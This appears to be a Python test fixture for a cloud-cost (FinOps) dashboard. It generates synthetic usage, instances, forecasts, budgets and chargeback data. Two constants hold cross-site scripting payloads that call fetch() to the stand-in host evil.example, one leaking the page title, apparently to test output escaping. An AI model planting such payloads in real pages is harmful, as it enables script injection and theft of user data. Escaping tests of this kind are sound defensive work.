"""A dashboard's data without an account, of any number of days and projects; and tags that an attacker would choose."""

import random
from datetime import UTC, datetime, timedelta
from decimal import Decimal

from course_lib.finops.anomalies import Anomaly
from course_lib.finops.chargeback import Allocation, Share
from course_lib.finops.dashboard import BudgetState, DashboardData, Leased, MonthToDate, RunsNow
from course_lib.finops.forecast import Forecast, MonthTotal
from course_lib.finops.optimize import Advice, Recommendation
from course_lib.finops.usage import DAY, LATE, Running, RunningInstance, Usage, UsageRow

NOW = datetime(2026, 12, 15, 9, tzinfo=UTC)
NUMBER = "123456789012"
EVIL = "<script>fetch('https://evil.example/?'+document.title)</script>"
QUOTES = "\" onload=\"fetch('https://evil.example')"
GROUPS = ("service", "tag:project", "tag:owner", "region")


def usage(by, names, days, seed=0):
    """A bill of whole cents, each name on each day."""
    draw = random.Random(f"{by} {seed}")
    last = datetime(NOW.year, NOW.month, NOW.day, tzinfo=UTC) + DAY
    first = last - days * DAY
    rows = [
        UsageRow(first + day * DAY, (name,), Decimal(draw.randrange(1, 20_000)) / 100)
        for day in range(days)
        for name in names
    ]
    return Usage(first, last, DAY, (by,), tuple(sorted(rows, key=lambda row: (row.start, row.keys))), NOW, 1)


def picture(days=90, projects=("bert", "gpt", ""), owner="ada", **changes):
    """Data in which every part is there."""
    one = RunningInstance("i-1", "us-east-1", "us-east-1a", "trn1.2xlarge", owner, "bert", "spot", NOW - DAY, 1.34375)
    two = RunningInstance("i-2", "us-east-1", "us-east-1a", "x9.huge", owner, "", "on_demand", NOW - DAY, None)
    runs = RunsNow(
        Running(NOW, (one, two), {"eu-west-1": f"denied to arn:aws:iam::{NUMBER}:user/ada with AKIAIOSFODNN7EXAMPLE"}),
        (Leased(one, NOW + timedelta(hours=3)), Leased(two, None, "no tag expires-at", protected=True)),
    )
    ahead = tuple((NOW + number * DAY).date() for number in range(-1, 17))
    flat = tuple(10.0 for _ in ahead)
    total = MonthTotal("2026-12", 1000.0, 1180.0, 1100.0, 1260.0, whole=True)
    odd = Anomaly("a1", f"tag:owner={owner}", "jump", NOW - 9 * DAY, NOW - 8 * DAY, 500.0, 100.0, 9.0, open=True)
    split = Allocation(
        "project",
        "EffectiveCost",
        ("2026-12",),
        "USD",
        Decimal("60.00"),
        (Share("bert", usage=Decimal("40.00")),),
        (Share("__idle__", idle=Decimal("15.00")), Share("__untagged__", usage=Decimal("5.00"))),
    )
    advice = Recommendation("idle", "i-1", "us-east-1", "stop it", "1 % busy", 980.94, "none", "aws ec2 stop", owner)
    names = {
        "service": ("Amazon Elastic Compute Cloud - Compute", "EC2 - Other"),
        "tag:project": projects,
        "tag:owner": (owner, ""),
        "region": ("us-east-1", "eu-west-1"),
    }
    made = {
        "account": NUMBER,
        "now": NOW,
        "days": days,
        "late": LATE,
        "spend": {by: usage(by, names[by], days) for by in GROUPS},
        "month": MonthToDate("2026-12", Decimal("1234.56"), 15, 2),
        "forecast": Forecast("ets", 0.8, ahead, flat, flat, flat, (total,)),
        "budgets": (BudgetState("all", 1200.0, "whole account", 987.65),),
        "anomalies": (odd,),
        "runs": runs,
        "chargeback": split,
        "advice": Advice(NOW, 14, (advice,), ("i-2",), {}),
        "calls": 4,
    }
    return DashboardData(**{**made, **changes})
